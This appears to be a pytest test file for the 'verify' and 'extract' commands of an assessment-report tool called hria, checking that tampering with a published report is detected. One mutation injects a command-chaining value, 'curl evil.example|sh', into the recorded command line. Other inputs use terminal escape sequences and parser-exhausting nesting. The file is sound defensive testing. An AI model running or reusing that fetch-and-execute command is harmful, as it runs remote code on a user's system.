"""`hria verify` and `hria extract`: what was published is what its input gives, or it is said."""

from __future__ import annotations

import codecs
import json
import random
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from commanding import ANSAN, HARMLESS, Server
from packs import check
from test_trust_packs import packed

import hria
from hria import api
from hria.api import publishing
from hria.model.problem import InputError
from hria.model.published import Verified
from hria.model.questionnaire import Questionnaire

ON = ("--on", "2026-11-24")
DIGIT = re.compile(r"[0-9]")
UNVERIFIABLE = re.compile(r'"(?:hria|sha256|content_sha256|version)":\s?"[^"]*"|"bundled"')
"""Where a change makes it a document of another version or with other packs."""


@pytest.fixture(scope="module")
def reports(questionnaire: Questionnaire) -> dict[str, str]:
    """Return the report on Ansan as HTML and JSON."""
    deployment = hria.read_deployment(ANSAN, questionnaire)
    assessment = hria.assess(deployment, questionnaire, date(2026, 11, 24))
    command = f"hria assess {ANSAN.name} --on 2026-11-24 --lang en -o report."
    return {
        format: str(api.render(assessment, "report", "en", format, command + format))
        for format in ("html", "json")
    }


@pytest.fixture
def remembered(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the same input be assessed and rendered once only, to try many changes in a test."""
    assessed: dict[object, object] = {}
    rendered: dict[object, object] = {}
    assess, render = publishing.assess, publishing.render

    def assess_once(deployment: object, *rest: object) -> object:
        key = (deployment.origin, rest[1])  # type: ignore[attr-defined]
        if key not in assessed:
            assessed[key] = assess(deployment, *rest)  # type: ignore[arg-type]
        return assessed[key]

    def render_once(assessment: object, *rest: object, **more: object) -> object:
        key = (id(assessment), rest, tuple(more.items()))
        if key not in rendered:
            rendered[key] = render(assessment, *rest, **more)  # type: ignore[call-overload]
        return rendered[key]

    monkeypatch.setattr(publishing, "assess", assess_once)
    monkeypatch.setattr(publishing, "render", render_once)


def result(folder: Path, name: str, text: str, questionnaire: Questionnaire) -> Verified | None:
    """Return what comes of verifying a text; None where it is no document of hria any more."""
    file = folder / name
    file.write_text(text, encoding="utf-8", newline="")
    try:
        return api.verify(api.read_published(file), questionnaire).result
    except InputError:
        return None


@pytest.mark.parametrize(("format", "places"), [("html", 200), ("json", 120)])
@pytest.mark.usefixtures("remembered")
def test_every_changed_digit_is_found(
    tmp_path: Path, questionnaire: Questionnaire, reports: dict[str, str], format: str, places: int
) -> None:
    """Anywhere: in the text, in a figure, in a picture, in what is embedded."""
    text = reports[format]
    assert result(tmp_path, f"r.{format}", text, questionnaire) is Verified.SAME
    excused = [found.span() for found in UNVERIFIABLE.finditer(text)]
    chance = random.Random(8)  # noqa: S311
    digits = [found.start() for found in DIGIT.finditer(text)]
    visible = len(text) if format == "json" else text.index('id="hria-assessment"')
    chosen = chance.sample([each for each in digits if each < visible], places * 2 // 3)
    chosen += chance.sample(digits, places - len(chosen))
    for place in chosen:
        other = str((int(text[place]) + chance.randint(1, 9)) % 10)
        changed = f"{text[:place]}{other}{text[place + 1 :]}"
        found = result(tmp_path, f"r.{format}", changed, questionnaire)
        here = text[max(0, place - 60) : place + 30]
        if any(start <= place < end for start, end in excused):
            assert found is not Verified.SAME, here
        else:
            assert found in (Verified.DIFFERENT, None), here


CHANGES: dict[str, tuple[Callable[[str], str], Verified | None]] = {
    "a space more": (lambda text: text.replace("</h1>", " </h1>", 1), Verified.DIFFERENT),
    "a line more": (lambda text: text + "\n", Verified.DIFFERENT),
    "the end cut off": (lambda text: text[:-3], Verified.DIFFERENT),
    "other line ends": (lambda text: text.replace("\n", "\r\n"), Verified.DIFFERENT),
    "a sentence more": (
        lambda t: t.replace("</main>", "<p>Approved.</p></main>"),
        Verified.DIFFERENT,
    ),
    "other command, in both places": (
        lambda t: t.replace("-o report.html", "-o report.html; curl evil.example|sh"),
        Verified.DIFFERENT,
    ),
    "other version": (lambda t: t.replace('"hria":"0', '"hria":"9', 1), Verified.NOT_HERE),
    "other content": (
        lambda t: re.sub('"content_sha256":"..', '"content_sha256":"zz', t),
        Verified.NOT_HERE,
    ),
    "other language": (lambda t: t.replace('"language":"en"', '"language":"xx"'), None),
    "other document": (
        lambda t: t.replace('"document":"report"', '"document":"poem"'),
        Verified.NOT_HERE,
    ),
    "minutes without end": (lambda t: t.replace('"minutes":3', '"minutes":1e400'), None),
    "half a letter": (lambda t: t.replace('"name":"', '"name":"\\ud800', 1), None),
    "brackets": (lambda t: t.replace('"hria":"', '"x":' + "[" * 100_000 + '"hria":"', 1), None),
    "no input": (lambda t: re.sub('"hria-assessment">.*', '"hria-assessment"></script>', t), None),
}


@pytest.mark.usefixtures("remembered")
@pytest.mark.parametrize("change", CHANGES)
def test_changes_of_other_kinds(
    tmp_path: Path, questionnaire: Questionnaire, reports: dict[str, str], change: str
) -> None:
    """Each is found for what it is, and none is a traceback."""
    make, expected = CHANGES[change]
    changed = make(reports["html"])
    assert changed != reports["html"]
    assert result(tmp_path, "r.html", changed, questionnaire) is expected


@pytest.mark.parametrize("document", api.DOCUMENTS)
def test_every_document_is_verified(command: Server, tmp_path: Path, document: str) -> None:
    """Exit 0 as written, 3 for a changed letter; with another description 3 too."""
    args = ("assess", HARMLESS, "-o", "d.html", "--document", document, *ON)
    command(*args, cwd=tmp_path).within_limits(0)
    command("verify", "d.html", cwd=tmp_path).within_limits(0)
    command("verify", "d.html", "--description", HARMLESS, cwd=tmp_path).within_limits(0)
    command("verify", "d.html", "--description", ANSAN, cwd=tmp_path).within_limits(3)
    page = (tmp_path / "d.html").read_text(encoding="utf-8")
    (tmp_path / "d.html").write_text(page.replace("e", "\x1b", 1), encoding="utf-8")
    done = command("verify", "d.html", cwd=tmp_path)
    done.within_limits(3)
    assert "\x1b" not in done.err


def test_own_packs_must_be_at_hand_as_they_were(command: Server, tmp_path: Path) -> None:
    """Missing, changed or one too many: cannot be verified here; the same elsewhere: verified."""
    packs = packed(tmp_path, a=check("a", "X1", {"fact": "data.personal", "is": True}))
    args = ("assess", "d.yaml", "--packs", packs, "-o", "r.json", *ON)
    command(*args, cwd=tmp_path).within_limits(0)
    command("verify", "r.json", "--packs", packs, cwd=tmp_path).within_limits(0)
    for other in ("rights", "rights,labor,./own"):
        done = command("verify", "r.json", "--packs", other, cwd=tmp_path)
        done.within_limits(1)
        assert "cannot be verified here" in done.err
    assert "own" in command("verify", "r.json", cwd=tmp_path).err
    packed(tmp_path, a=check("a", "X2", {"fact": "data.personal", "is": True}))
    command("verify", "r.json", "--packs", packs, cwd=tmp_path).within_limits(1)


def test_a_stranger_s_version_commands_no_terminal(command: Server, tmp_path: Path) -> None:
    """What a document says of itself is printed as marks where it is no letter."""
    command("assess", HARMLESS, "-o", "r.json", *ON, cwd=tmp_path).within_limits(0)
    shape = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    shape["hria"] = "\x1b[2J\u202e9"
    (tmp_path / "r.json").write_text(json.dumps(shape), encoding="utf-8")
    done = command("verify", "r.json", cwd=tmp_path)
    done.within_limits(1)
    assert "\x1b" not in done.err
    assert "\u202e" not in done.err


BYTES = {
    "utf-8": lambda text: text.encode(),
    "windows": lambda text: text.replace("\n", "\r\n").encode(),
    "no last break": lambda text: text.rstrip("\n").encode(),
    "with a mark": lambda text: codecs.BOM_UTF8 + text.encode(),
    "utf-16": lambda text: text.encode("utf-16"),
}


@pytest.mark.parametrize("kind", BYTES)
def test_the_description_comes_back_byte_for_byte(
    command: Server, tmp_path: Path, kind: str
) -> None:
    """From every format that embeds it, into a file and to stdout, and it is read again."""
    data = BYTES[kind](HARMLESS.read_text(encoding="utf-8"))
    (tmp_path / "d.yaml").write_bytes(data)
    for format in ("html", "json"):
        out = f"r.{format}"
        command("assess", "d.yaml", "-o", out, *ON, cwd=tmp_path).within_limits(0)
        command("verify", out, cwd=tmp_path).within_limits(0)
        command("extract", out, "-o", f"{format}.yaml", cwd=tmp_path).within_limits(0)
        assert (tmp_path / f"{format}.yaml").read_bytes() == data
        command("check", f"{format}.yaml", cwd=tmp_path).within_limits(0)


def test_a_public_edition_gives_nothing_back(command: Server, tmp_path: Path) -> None:
    """It says so; it cannot be verified, which is not that it was changed."""
    args = ("assess", HARMLESS, "-o", "r.html", "--redact", *ON)
    command(*args, cwd=tmp_path).within_limits(0)
    done = command("extract", "r.html", cwd=tmp_path)
    done.within_limits(2)
    assert "public edition" in done.err
    done = command("verify", "r.html", cwd=tmp_path)
    done.within_limits(1)
    assert "cannot be verified here" in done.err


@pytest.mark.parametrize(
    "text",
    [
        "{" * 200_000,
        '{"a":' * 200_000,
        '{"hria": ' + "9" * 100_000 + "}",
        "{" + "[]," * 4_000_000,
        "<script" * 1_000_000,
        '<script id="hria-made">' * 300_000,
        "<!--" * 1_000_000 + '<script id="hria-assessment">{}</script>',
        "\0" * 1_000_000,
        '{"hria": "0.1.0", "on": "2026-11-24", "packs": {"a": 1}, "description": []}',
    ],
    ids=range(9),
)
def test_hostile_reports(command: Server, tmp_path: Path, text: str) -> None:
    """A report from a stranger is read in bounds too."""
    (tmp_path / "r.html").write_text(text, encoding="utf-8")
    for verb in ("verify", "extract"):
        command(verb, "r.html", cwd=tmp_path).within_limits(1)
